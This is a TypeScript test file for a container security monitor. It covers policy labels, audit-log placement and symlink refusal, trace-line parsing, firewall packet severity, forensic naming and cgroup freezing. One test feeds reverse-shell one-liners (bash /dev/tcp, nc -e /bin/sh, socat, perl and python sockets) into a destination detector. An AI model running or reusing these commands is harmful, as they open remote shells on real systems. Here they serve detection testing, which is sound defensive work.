/**
 * The pure pieces around the monitor loop: the policy label, where audit logs
 * go (and the refusals that keep a root writer out of a user's symlinks),
 * the audit writer's ownership, trace lines, wire trimming, forensic names,
 * destinations in one-liners, packets from the firewall log, the freezer.
 */
import { DEFAULT_NETWORK } from '../../../helper/sandbox/network-label';
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, test } from 'node:test';
import { configSchema } from '../../../helper/config/schema';
import { AuditWriter, auditRecord } from '../../../helper/guard/monitor/audit';
import { auditLocation, auditSearchDirs, ensureAuditDir, parsePasswd } from '../../../helper/guard/monitor/audit-location';
import { blockedConnectionDetector, judgePacket } from '../../../helper/guard/monitor/detectors/blocked-network';
import { DEFAULT_THRESHOLDS } from '../../../helper/guard/monitor/detectors/common';
import { destinationOf } from '../../../helper/guard/monitor/detectors/reverse-shell';
import { decodePolicy, encodePolicy, MONITOR_LABEL, policyFromConfig } from '../../../helper/guard/monitor/policy';
import { forensicsName } from '../../../helper/guard/monitor/responder';
import { containerOfCgroup, parseTraceLine, tracefsMount } from '../../../helper/guard/monitor/trace';
import { toThreatWire } from '../../../helper/guard/monitor/wire';
import { freezerFile, frozenBehindIncus, readFreezer, writeFreezer } from '../../../helper/host/freezer';
import { guardEvent, threatRecord } from '../../../helper/protocol/methods';
import { buildInstanceSpec } from '../../../helper/sandbox/spec';
import { sandboxFromInstance } from '../../../helper/sandbox/labels';
import type { InstanceFull } from '../../../helper/incus/types';
import { snap } from './build';

const made: string[] = [];
const tmp = () => {
  const d = fs.mkdtempSync(path.join(os.tmpdir(), 'coi-guard-parts-'));
  made.push(d);
  return d;
};
after(() => made.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

test('the policy label: config → compact JSON → the same policy; absent, invalid and disabled', () => {
  const cfg = configSchema().parse({ monitoring: { enabled: true, auto_pause_on_high: false, forensics_on_kill: true, process_count_threshold: 300, audit_log_retention_days: 7, nft: { dns_query_threshold: 42 } } });
  const p = policyFromConfig(cfg.monitoring);
  const text = encodePolicy(p);
  assert.ok(text.length < 600, 'compact');
  assert.match(text, /"process_count_threshold":300/);
  const back = decodePolicy(text);
  assert.equal(back.kind, 'ok');
  assert.deepEqual(back.kind === 'ok' && back.policy, p);
  assert.equal(p.thresholds.dnsQueryThreshold, 42);
  assert.deepEqual(decodePolicy(undefined), { kind: 'absent' });
  const bad = decodePolicy('{not json');
  assert.equal(bad.kind, 'invalid');
  assert.equal(bad.kind === 'invalid' && bad.policy.enabled, true, 'an unreadable label still means: watch it');
  const off = decodePolicy(encodePolicy(policyFromConfig(configSchema().parse({}).monitoring)));
  assert.equal(off.kind === 'ok' && off.policy.enabled, false);
});

test('the instance spec carries the label, and a sandbox read back says it is monitored', () => {
  const spec = buildInstanceSpec({
    name: 'coi-abc-1', image: 'coi-base', pool: 'coi', bridge: 'coibr0', workspace: '/w', slot: 1, kind: 'shell', tool: 'shell', persistent: false, session: 's', profile: 'default',
    ownerUid: 1000, ownerHome: '/home/alice', launcherPid: 1, network: DEFAULT_NETWORK, idmap: { kind: 'shift' }, protectedPaths: [], mounts: [], nesting: false, now: new Date(0),
    monitor: policyFromConfig(configSchema().parse({ monitoring: { enabled: true } }).monitoring),
    guardSocket: '/tmp/private/guard.sock',
  } as Parameters<typeof buildInstanceSpec>[0]);
  const label = spec.config?.[MONITOR_LABEL];
  assert.ok(label);
  assert.equal(spec.config?.['user.coi.guard-socket'], '/tmp/private/guard.sock', 'only the guard it was made with watches it');
  const inst = { name: 'coi-abc-1', status: 'Running', status_code: 103, type: 'container', created_at: '', config: spec.config ?? {}, devices: {} } as unknown as InstanceFull;
  assert.equal(sandboxFromInstance(inst)?.monitored, true);
});

test('audit location: the owner\'s passwd home, else /var/lib/coi/audit/<uid>, or COI_AUDIT_DIR', () => {
  const passwd = parsePasswd('root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1001::/home/alice:/bin/bash\nsvc:x:998:998::/:/usr/sbin/nologin\nbroken line\n');
  const isDir = (p: string) => ['/root', '/home/alice'].includes(p);
  assert.deepEqual(auditLocation(1000, { passwd, isDir, env: {} }), { dir: '/home/alice/.coi/audit', owner: { uid: 1000, gid: 1001 }, ownedFrom: '/home/alice/.coi', source: 'home' });
  assert.equal(auditLocation(998, { passwd, isDir, env: {} }).dir, '/var/lib/coi/audit/998', 'a home of / is no home');
  assert.equal(auditLocation(4242, { passwd, isDir, env: {} }).source, 'fallback');
  assert.equal(auditLocation(1000, { passwd, isDir, env: { COI_AUDIT_DIR: '/srv/audit' } }).dir, '/srv/audit');
  assert.deepEqual(auditSearchDirs(1000, { passwd, isDir, env: {}, home: '/tmp/h' }), ['/home/alice/.coi/audit', '/var/lib/coi/audit/1000', '/tmp/h/.coi/audit']);
});

test('ensureAuditDir creates the owner\'s part owned by them and refuses a user\'s symlink', { skip: process.getuid?.() !== 0 && 'needs root to chown' }, () => {
  const home = tmp();
  fs.chownSync(home, 4321, 4321);
  const loc = { dir: path.join(home, '.coi', 'audit'), owner: { uid: 4321, gid: 4321 }, ownedFrom: path.join(home, '.coi'), source: 'home' as const };
  ensureAuditDir(loc);
  for (const d of [path.join(home, '.coi'), loc.dir]) {
    const st = fs.statSync(d);
    assert.equal(st.uid, 4321);
    assert.equal(st.mode & 0o777, 0o700);
  }
  const evil = tmp();
  fs.chownSync(evil, 4321, 4321);
  const target = tmp();
  fs.symlinkSync(target, path.join(evil, '.coi'));
  fs.lchownSync(path.join(evil, '.coi'), 4321, 4321);
  assert.throws(() => ensureAuditDir({ ...loc, dir: path.join(evil, '.coi', 'audit'), ownedFrom: path.join(evil, '.coi') }), /is a symlink/);
  const other = tmp();
  fs.chownSync(other, 5555, 5555);
  assert.throws(() => ensureAuditDir({ ...loc, dir: path.join(other, 'x') }), /neither root nor the owner/);
});

test('the audit writer chowns the files it creates to the owner and never appends through a symlink', { skip: process.getuid?.() !== 0 && 'needs root to chown' }, async () => {
  const dir = tmp();
  const w = await AuditWriter.open({ dir, container: 'coi-own-1', owner: { uid: 4321, gid: 4322 } });
  await w.append(auditRecord({ id: 'a', time: new Date().toISOString(), level: 'info', category: 'monitor', title: 't', description: 'd', evidence: { rule: 'r', key: 'k' }, detector: 'x', mitre: [] }, 'coi-own-1', 'logged'));
  await w.close();
  const st = fs.statSync(path.join(dir, 'coi-own-1.jsonl'));
  assert.deepEqual([st.uid, st.gid, st.mode & 0o777], [4321, 4322, 0o600]);
  const secret = path.join(tmp(), 'shadow');
  fs.writeFileSync(secret, 'do not touch\n');
  fs.symlinkSync(secret, path.join(dir, 'coi-evil-1.jsonl'));
  await assert.rejects(AuditWriter.open({ dir, container: 'coi-evil-1', owner: { uid: 4321, gid: 4322 } }), /ELOOP|symbolic/);
  assert.equal(fs.readFileSync(secret, 'utf8'), 'do not touch\n');
});

test('trace lines: fork, exec, environ open; comm with spaces and dashes; anything else ignored', () => {
  assert.deepEqual(parseTraceLine('            bash-14341   [001] .....  4011.616566: sched_process_fork: comm=bash pid=14341 child_comm=bash child_pid=25596'), {
    kind: 'fork', pid: 14341, comm: 'bash', child: 25596, childComm: 'bash',
  });
  assert.deepEqual(parseTraceLine('            grep-25597   [001] .N...  4011.617608: sched_process_exec: filename=/usr/bin/grep pid=25597 old_pid=25597'), {
    kind: 'exec', pid: 25597, comm: 'grep', filename: '/usr/bin/grep',
  });
  assert.deepEqual(parseTraceLine('     tmux: server-14334 [000] .....  4011.627171: sys_openat(dfd: 0xffffff9c, filename: 0x7ffcb61b4705, flags: 0, mode: 0)'), {
    kind: 'environ-open', pid: 14334, comm: 'tmux: server',
  });
  assert.deepEqual(parseTraceLine('  my-prog-2-77 [001] ..... 1.5: sched_process_exec: filename=/tmp/a b pid=77 old_pid=77'), { kind: 'exec', pid: 77, comm: 'my-prog-2', filename: '/tmp/a b' });
  assert.deepEqual(parseTraceLine('CPU:1 [LOST 211 EVENTS]'), { kind: 'lost', cpu: 1 });
  assert.deepEqual(parseTraceLine('CPU:0 [LOST EVENTS]'), { kind: 'lost', cpu: 0 });
  assert.equal(parseTraceLine('# tracer: nop'), undefined);
  assert.equal(parseTraceLine('garbage'), undefined);
  assert.equal(containerOfCgroup('12:pids:/lxc.payload.coi-ab12-1/init.scope\n0::/lxc.payload.coi-ab12-1/init.scope\n'), 'coi-ab12-1');
  assert.equal(containerOfCgroup('0::/user.slice\n'), undefined);
  assert.equal(tracefsMount('sysfs /sys sysfs rw 0 0\nnodev /sys/kernel/tracing tracefs rw,relatime 0 0\n'), '/sys/kernel/tracing');
});

test('one-liners name their destination before any connection exists', () => {
  assert.deepEqual(destinationOf("bash -c exec 3<>/dev/tcp/198.51.100.2/40111; exec sh -i <&3"), { proto: 'tcp', remote: '198.51.100.2', port: 40111 });
  assert.deepEqual(destinationOf('busybox nc 198.51.100.2 443 -e /bin/sh'), { proto: 'tcp', remote: '198.51.100.2', port: 443 });
  assert.deepEqual(destinationOf("socat exec:'bash -li',pty tcp:10.0.0.1:9001"), { proto: 'tcp', remote: '10.0.0.1', port: 9001 });
  assert.deepEqual(destinationOf('perl -e use Socket;$i="198.51.100.3";$p=8443;socket(S'), { proto: 'tcp', remote: '198.51.100.3', port: 8443 });
  assert.deepEqual(destinationOf('python3 -c import socket;s.connect(("10.0.0.9",1234))'), { proto: 'tcp', remote: '10.0.0.9', port: 1234 });
  assert.deepEqual(destinationOf('bash -c cat </dev/udp/10.1.1.1/53'), { proto: 'udp', remote: '10.1.1.1', port: 53 });
  assert.equal(destinationOf('sh -c ls -la'), undefined);
});

test('packets the firewall logged: metadata CRITICAL, allowlist and private HIGH, foreign DNS WARNING, the rest INFO', () => {
  const ctx = { thresholds: DEFAULT_THRESHOLDS };
  const p = (rule: string, dst?: string, dport?: number) => ({ time: 0, rule, action: 'reject' as const, proto: 'tcp', ...(dst ? { dst } : {}), ...(dport ? { dport } : {}), src: '10.213.0.100' });
  assert.equal(judgePacket(p('linklocal', '169.254.169.254', 80), ctx).level, 'critical');
  assert.equal(judgePacket(p('notallowed', '198.51.100.2', 4444), ctx).level, 'critical');
  assert.equal(judgePacket(p('notallowed', '198.51.100.2', 443), ctx).level, 'high');
  assert.equal(judgePacket(p('private', '10.99.0.2', 22), ctx).level, 'high');
  assert.equal(judgePacket(p('dns', '198.51.100.3', 53), ctx).level, 'warning');
  assert.equal(judgePacket(p('boot'), ctx).level, 'info');
  const events = blockedConnectionDetector.evaluate(snap([]), undefined, { ...ctx, packets: [p('notallowed', '198.51.100.2', 443), p('notallowed', '198.51.100.2', 443), p('private', '10.99.0.2', 22)] });
  assert.equal(events.length, 2, 'one event per rule and destination');
  assert.equal(events[0]?.evidence.network?.remote, '198.51.100.2');
});

test('records on the wire fit the protocol whatever their size, and travel on the threat topic', () => {
  const huge = 'x'.repeat(100_000);
  const r = auditRecord({ id: 'i'.repeat(200), time: new Date().toISOString(), level: 'critical', category: 'reverse_shell', title: huge, description: huge, evidence: { rule: 'r', key: huge, process: { pid: 1, comm: 'sh', argv: [huge], lineage: [] } }, detector: 'reverse-shell', mitre: Array(40).fill('T1059') }, 'coi-x-1', 'killed');
  const wire = toThreatWire(r);
  assert.ok(threatRecord().safeParse(wire).success);
  assert.ok(wire.title.length <= 1024 && wire.description.length <= 16_384 && (wire.mitre?.length ?? 0) <= 16);
  assert.ok(guardEvent().safeParse({ topic: 'threat', event: { container: 'coi-x-1', ownerUid: 0, record: wire } }).success);
  const odd = toThreatWire({ ...r, evidence: { rule: 'r', key: 'k', process: 'not an object' } });
  assert.ok(threatRecord().safeParse(odd).success, 'evidence of an unexpected shape is reduced, not dropped');
});

test('forensic copies are named <name>-forensics-<UTC time>, within 63 characters', () => {
  assert.equal(forensicsName('coi-ab12cd34-1', new Date('2026-11-27T05:30:12.345Z')), 'coi-ab12cd34-1-forensics-20261127-053012');
  const long = forensicsName(`coi-${'a'.repeat(60)}-1`, new Date(0));
  assert.ok(long.length <= 63 && /^[a-z0-9-]+$/.test(long) && !long.includes('--forensics'));
});

test('the freezer: v1 freezer.state, v2 cgroup.freeze and cgroup.events', () => {
  const v1 = tmp();
  fs.mkdirSync(path.join(v1, 'freezer', 'lxc.payload.c1'), { recursive: true });
  fs.writeFileSync(path.join(v1, 'freezer', 'lxc.payload.c1', 'freezer.state'), 'THAWED\n');
  assert.equal(freezerFile('c1', v1)?.version, 1);
  assert.equal(readFreezer('c1', v1), 'thawed');
  assert.equal(writeFreezer('c1', true, v1).ok, true);
  assert.equal(fs.readFileSync(path.join(v1, 'freezer', 'lxc.payload.c1', 'freezer.state'), 'utf8'), 'FROZEN');
  assert.equal(readFreezer('c1', v1), 'frozen');
  const v2 = tmp();
  fs.mkdirSync(path.join(v2, 'lxc.payload.c2'));
  fs.writeFileSync(path.join(v2, 'lxc.payload.c2', 'cgroup.freeze'), '0\n');
  fs.writeFileSync(path.join(v2, 'lxc.payload.c2', 'cgroup.events'), 'populated 1\nfrozen 0\n');
  assert.equal(writeFreezer('c2', true, v2).ok, true);
  assert.equal(readFreezer('c2', v2), 'freezing', 'asked, not yet done');
  fs.writeFileSync(path.join(v2, 'lxc.payload.c2', 'cgroup.events'), 'populated 1\nfrozen 1\n');
  assert.equal(readFreezer('c2', v2), 'frozen');
  assert.equal(writeFreezer('gone', true, v2).ok, false);
  assert.equal(frozenBehindIncus('Running', 'c1', v1), true, 'frozen in its cgroup while Incus says running');
  assert.equal(frozenBehindIncus('Frozen', 'c1', v1), false);
  writeFreezer('c1', false, v1);
  assert.equal(frozenBehindIncus('Running', 'c1', v1), false);
  assert.throws(() => freezerFile('../etc', v2), /not a container name/);
});
